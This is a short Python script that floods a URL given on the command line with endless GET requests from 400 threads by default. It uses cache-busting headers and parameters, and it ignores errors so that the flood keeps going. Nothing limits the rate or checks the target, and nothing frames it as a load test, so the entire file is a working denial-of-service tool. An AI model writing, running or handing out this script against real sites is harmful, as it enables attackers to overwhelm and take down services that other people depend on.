import sys, threading, requests

url = sys.argv[1]
n = int(sys.argv[sys.argv.index("--workers") + 1]) if "--workers" in sys.argv else 400

def hammer():
    s = requests.Session()
    while True:
        try:
            s.get(url, timeout=2, headers={"Cache-Control": "no-cache"}, params={"r": id(s)})
        except Exception:
            continue

for _ in range(n):
    threading.Thread(target=hammer, daemon=False).start()
